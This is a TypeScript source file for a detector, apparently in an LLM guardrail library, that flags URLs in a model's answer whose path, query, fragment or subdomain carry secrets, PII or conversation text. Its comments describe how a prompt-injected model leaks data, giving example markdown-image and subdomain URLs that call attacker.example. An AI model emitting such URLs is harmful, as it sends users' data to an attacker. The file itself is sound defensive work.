import { createPiiDetector } from '../detectors/pii/index.js';
import { createSecretsDetector } from '../detectors/secrets/index.js';
import type { DetectContext, Detector, Finding } from '../types.js';
import type { ConversationContext } from './conversation.js';
import { evidenceHost } from './urls.js';

/**
 * The `exfiltration` detector: a URL in an answer whose path, query or fragment carries data, the classic
 * way an injected model leaks (`![](https://attacker.example/p?q=<the user's e-mail>)`, fetched the moment
 * a chat UI renders it). Data means a secret or PII (the secrets and pii detectors, run on the decoded URL
 * parts), or text from the request's own conversation (the caller's messages, the system prompt and its
 * canary). It only reports; the render transforms make the URL inert. Its findings are high severity in
 * the SIEM whatever the action, and incident mode turns a monitor policy into a block.
 */

export interface ExfiltrationOptions {
  /** Characters of conversation text a URL's query and fragment must carry to count; default 16. */
  minConversationChars?: number;
}

const URL_RE = /\b(?:https?:)?\/\/[^\s<>"'`\\)\]]{3,4096}/gi;
/** Query and fragment pieces: values are split where URLs split them. */
const PIECES = /[^?#&=;,/+\s]{6,}/g;

export function createExfiltrationDetector(options: ExfiltrationOptions = {}): Detector {
  const min = options.minConversationChars ?? 16;
  if (!Number.isInteger(min) || min < 6) throw new TypeError('exfiltration: minConversationChars must be an integer of at least 6');
  const pii = createPiiDetector();
  const secrets = createSecretsDetector();
  return {
    name: 'exfiltration',
    detect(text: string, context: DetectContext): Finding[] {
      if (typeof text !== 'string' || !text.includes('//')) return [];
      const conversation = (context as ConversationContext).conversation ?? '';
      const findings: Finding[] = [];
      for (const m of text.matchAll(URL_RE)) {
        if (findings.length >= 100) break;
        const url = m[0].replace(/[.,;:!?]+$/, '');
        const parts = dataParts(url);
        if (!parts) continue;
        const type = carried(parts, { pii, secrets, conversation, min, context });
        if (type) findings.push({ detector: 'exfiltration', type, score: 0.95, start: m.index, end: m.index + url.length, evidence: parts.host });
      }
      return findings;
    },
  };
}

interface DataParts {
  host: string;
  /** Decoded path, query and fragment. */
  all: string;
  /** Decoded query and fragment only: a path is usually a page's own slug. */
  query: string;
}

function dataParts(url: string): DataParts | undefined {
  let parsed: URL;
  try {
    parsed = new URL(url.startsWith('//') ? `https:${url}` : url);
  } catch {
    return undefined;
  }
  const query = decode(`${parsed.search} ${parsed.hash}`);
  if (parsed.pathname.length <= 1 && query.trim() === '' && parsed.hostname.split('.').length <= 2) return undefined;
  const host = parsed.hostname.toLowerCase();
  // Subdomain labels carry data as well as a path does (`<the data>.attacker.example`).
  const labels = host.split('.').slice(0, -2).join(' ');
  return { host: evidenceHost(host), all: `${labels} ${decode(parsed.pathname)} ${query}`, query: `${labels} ${query}` };
}

function decode(part: string): string {
  const spaced = part.replace(/\+/g, ' ');
  try {
    return decodeURIComponent(spaced);
  } catch {
    return spaced;
  }
}

interface Checks {
  pii: Detector;
  secrets: Detector;
  conversation: string;
  min: number;
  context: DetectContext;
}

/** The kind of data a URL carries, or undefined. */
function carried(parts: DataParts, checks: Checks): string | undefined {
  const context = { ...checks.context, part: 'url' };
  if (checks.secrets.detect(parts.all, context).length > 0) return 'exfiltration_secret';
  if (checks.pii.detect(parts.all, context).length > 0) return 'exfiltration_pii';
  if (checks.conversation !== '' && conversationChars(parts.query, checks.conversation) >= checks.min) return 'exfiltration_conversation';
  return undefined;
}

/** Characters of the query's pieces (six characters or longer) that also appear in the conversation. */
function conversationChars(query: string, conversation: string): number {
  let found = 0;
  for (const m of query.toLowerCase().matchAll(PIECES)) if (conversation.includes(m[0])) found += m[0].length;
  return found;
}
